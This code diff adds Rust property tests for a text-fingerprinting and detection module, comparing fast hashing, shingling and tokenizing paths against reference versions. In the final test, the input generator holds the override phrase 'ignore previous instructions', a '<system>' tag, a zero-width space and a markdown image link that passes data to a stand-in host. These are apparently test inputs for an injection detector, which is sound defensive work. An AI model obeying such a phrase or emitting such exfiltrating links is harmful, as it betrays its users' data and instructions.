@@ -84,3 +84,101 @@ fn a_short_private_text_copied_whole_shares_shingles() {
         a.iter().filter(|f| f.kind == FpKind::Shingle).count()
     );
 }
+
+mod props {
+    use proptest::prelude::*;
+
+    use super::super::{
+        FpKind, hash, hash_ascii_lower, shingles, shingles_reference, tokens, tokens_bytewise,
+        word_hash, word_hash_at,
+    };
+
+    proptest! {
+        #[test]
+        fn word_hash_at_equals_word_hash(text in "[a-zA-Z0-9 é.-]{0,80}", a in 0usize..80, b in 0usize..80) {
+            let t = text.as_bytes();
+            let (s, e) = (a.min(b).min(t.len()), a.max(b).min(t.len()));
+            prop_assert_eq!(word_hash_at(t, s, e), word_hash(&t[s..e]));
+        }
+
+        #[test]
+        fn shingles_equal_the_reference(
+            words in prop::collection::vec("[a-zA-Z0-9é]{1,12}", 0..300),
+            seps in prop::collection::vec("[ ,.\\n-]{1,2}", 300),
+            cap in prop::sample::select(vec![0usize, 5, 64, 128, 256, 1000]),
+            sample in any::<bool>(),
+        ) {
+            let text: String = words.iter().zip(&seps).map(|(w, s)| format!("{w}{s}")).collect();
+            let mut slow = Vec::new();
+            shingles_reference(&text, cap, sample, &mut slow);
+            let mut fast = Vec::new();
+            shingles(&text, None, cap, sample, &mut fast);
+            prop_assert_eq!(&fast, &slow);
+            // With the blocks of a longer text that starts with this one.
+            let longer = format!("{text}  x9");
+            let pre = crate::detect::classify_all(longer.as_bytes());
+            let mut shared = Vec::new();
+            shingles(&text, Some(&pre), cap, sample, &mut shared);
+            prop_assert_eq!(shared, slow);
+        }
+
+        #[test]
+        fn hash_ascii_lower_equals_hash_of_the_lowered_copy(text in "[a-zA-Z0-9 é_./-]{0,40}") {
+            prop_assert_eq!(
+                hash_ascii_lower(FpKind::Value, text.as_bytes()),
+                hash(FpKind::Value, text.to_ascii_lowercase().as_bytes())
+            );
+        }
+
+        #[test]
+        fn tokens_equal_the_bytewise_walk(
+            text in "([a-zA-Z]{1,6}|[0-9]{1,9}|[ ./_:@,;!?()\"-]|é|\n|C-2201|msg-7712|/etc/x.conf){0,60}",
+            cap in 0usize..12,
+        ) {
+            let (mut fast, mut slow) = (Vec::new(), Vec::new());
+            tokens(&text, None, cap, &mut fast);
+            tokens_bytewise(&text, cap, &mut slow);
+            prop_assert_eq!(&fast, &slow);
+            // Classified once as part of a longer text, as `from_text` does.
+            let longer = format!("{text} \t\n9/x");
+            let pre = crate::detect::classify_all(longer.as_bytes());
+            let mut shared = Vec::new();
+            tokens(&text, Some(&pre), cap, &mut shared);
+            prop_assert_eq!(shared, slow);
+        }
+    }
+}
+
+mod shared_blocks {
+    use proptest::prelude::*;
+
+    use super::super::{Extract, from_findings, from_text, from_text_and_signals};
+    use crate::detect::Detectors;
+
+    proptest! {
+        #[test]
+        fn from_text_equals_scan_then_from_findings(
+            text in "[ \\t\\n]{0,3}([a-zA-Z]{1,8}|[0-9]{1,9}|[ ./_:@,-]|é|C-2201|x@y.example|ignore previous instructions|<system>|!\\[x\\]\\(https://e.example/\\?q=\\{d\\}\\)|\u{200B}){0,90}[ \\t\\n]{0,3}",
+            sample in any::<bool>(),
+            cap in prop::sample::select(vec![3usize, 40, 256]),
+        ) {
+            let d = Detectors::shared();
+            let opts = Extract { shingles: true, values: true, cap, sample };
+            let (mut fast, mut scratch) = (Vec::new(), Vec::new());
+            from_text(&d, &text, opts, &mut scratch, &mut fast);
+            let (mut found, mut slow) = (Vec::new(), Vec::new());
+            d.scan(&text, &mut found);
+            prop_assert_eq!(&scratch, &found);
+            from_findings(&text, &found, opts, &mut slow);
+            prop_assert_eq!(&fast, &slow);
+            // With the signals from the same pass.
+            let (mut fused, mut scratch2, mut sigs) = (Vec::new(), Vec::new(), Vec::new());
+            from_text_and_signals(&d, &text, opts, &mut scratch2, &mut fused, &mut sigs);
+            let mut want_sigs = Vec::new();
+            d.signals(&text, &mut want_sigs);
+            prop_assert_eq!(scratch2, found);
+            prop_assert_eq!(fused, slow);
+            prop_assert_eq!(sigs, want_sigs);
+        }
+    }
+}
